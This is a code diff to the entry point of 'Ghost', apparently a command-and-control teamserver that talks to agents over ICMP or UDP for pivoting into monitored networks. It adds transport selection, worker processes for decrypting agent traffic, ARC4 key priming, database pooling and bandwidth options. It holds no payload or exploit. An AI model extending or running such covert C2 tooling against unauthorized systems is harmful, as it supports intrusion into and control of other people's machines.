@@ -5,7 +5,10 @@ import asyncclick
 
 from lib import sck
 from lib import rpc
+from lib import arc4
 from lib import logger
+from lib import profiler
+from lib import transport
 from lib import database
 
 class Ghost:
@@ -17,8 +20,10 @@ class Ghost:
     @dbs = Database() class reference for interacting with the database
     @log = Fancy log formatter for output
     @key = Encryption key for the communications
+    @prf = Profiler() class reference for sampling the event loop on demand
+    @lag = LagMonitor() class reference for reporting a blocked event loop
     """
-    def __init__( self, encryption_key ):
+    def __init__( self, encryption_key, db_pool_size = 5, db_pool_overflow = 10, listener_transport = 'icmp', listener_workers = 0, lag_threshold = 0.1, listener_bandwidth = 0 ):
         # set the logging object
         self.log = logger.init( True );
 
@@ -26,42 +31,74 @@ class Ghost:
         self.rpc = rpc.RpcServer( self );
 
         # set the sock serer class
-        self.sck = sck.SckServer( self );
+        self.sck = sck.SckServer( self, listener_transport, listener_workers );
 
         # set the sql database class
-        self.dbs = database.Database( self );
+        self.dbs = database.Database( self, pool_size = db_pool_size, max_overflow = db_pool_overflow, bandwidth = listener_bandwidth );
 
         # set the key to initialize it
         self.key = encryption_key
 
+        # set the on demand profiler
+        self.prf = profiler.Profiler();
+
+        # set the event loop lag monitor, if enabled
+        self.lag = profiler.LagMonitor( self, lag_threshold ) if lag_threshold > 0 else None
+
     async def start( self, teamserver_host, teamserver_port, listener_host ):
         """
-        Starts the RPC service and ICMP listener.
+        Starts the RPC service and the listener.
         """
+        # watch for anything blocking the event loop
+        if self.lag is not None:
+            self.lag.start();
+
         # create the database if it does not exist
         await self.dbs.start();
 
+        # generate the keystream cache off the event loop before anyone can
+        # reach us, so operators never see a teamserver agents cannot talk to
+        self.log.info( 'Generating the ARC4 keystream cache' );
+        await asyncio.to_thread( arc4.get( self.key ).prime );
+
         # start the task for handling incoming connections via RPC
         rpc_task = await self.rpc.start( teamserver_host, teamserver_port );
 
-        # start the task for handling incoming connections via ICMP
+        # start the task for handling incoming connections via the transport
         sck_task = await self.sck.start( listener_host );
 
-        # wait on the task to complete or fail
-        await asyncio.wait( [ rpc_task ] );
+        try:
+            # wait on the task to complete or fail
+            await asyncio.wait( [ rpc_task ] );
+        finally:
+            # stop taking fragments from agents
+            await self.sck.stop();
+
+            # flush anything still buffered for the database
+            await self.dbs.stop();
+
+            # stop watching the event loop
+            if self.lag is not None:
+                await self.lag.stop();
 
 @asyncclick.command( no_args_is_help = True )
 @asyncclick.argument( 'rpc-host', type = str, metavar = 'rpc-host' )
 @asyncclick.argument( 'rpc-port', type = int, metavar = 'rpc-port' )
 @asyncclick.argument( 'listener', type = str, metavar = 'listener' )
 @asyncclick.argument( 'arc4-key', type = str, metavar = 'arc4-key' )
-async def ghost_main( rpc_host, rpc_port, listener, arc4_key ):
+@asyncclick.option( '--db-pool-size', type = int, default = 5, show_default = True, help = 'Database connections kept open.' )
+@asyncclick.option( '--db-pool-overflow', type = int, default = 10, show_default = True, help = 'Extra database connections allowed under load.' )
+@asyncclick.option( '--transport', type = asyncclick.Choice( list( transport.TRANSPORTS ) ), default = 'icmp', show_default = True, help = 'How agents reach the listener. udp takes host:port or [ipv6]:port and needs no root.' )
+@asyncclick.option( '--workers', type = asyncclick.IntRange( min = 0 ), default = 0, show_default = True, help = 'Processes to decrypt and decode agent messages in, sharded by agent ID. 0 does it all in the teamserver process.' )
+@asyncclick.option( '--lag-threshold', type = asyncclick.IntRange( min = 0 ), default = 100, show_default = True, help = 'Milliseconds the event loop may be blocked before it is logged. 0 disables the lag monitor.' )
+@asyncclick.option( '--bandwidth', type = asyncclick.IntRange( min = 0 ), default = 0, show_default = True, help = 'KB per second of queued tasks the listener sends, shared fairly between agents. 0 is unlimited.' )
+async def ghost_main( rpc_host, rpc_port, listener, arc4_key, db_pool_size, db_pool_overflow, transport, workers, lag_threshold, bandwidth ):
     """
     A minimal command and control over ICMP for pivoting into heavily
     monitored environments and managing remote instances.
     """
     # create the primary 'ghost' class
-    ghost = Ghost( arc4_key );
+    ghost = Ghost( arc4_key, db_pool_size, db_pool_overflow, transport, workers, lag_threshold / 1000, bandwidth * 1024 );
 
     # start the teamserver to handle incoming clients and socket server
     await ghost.start( rpc_host, rpc_port, listener );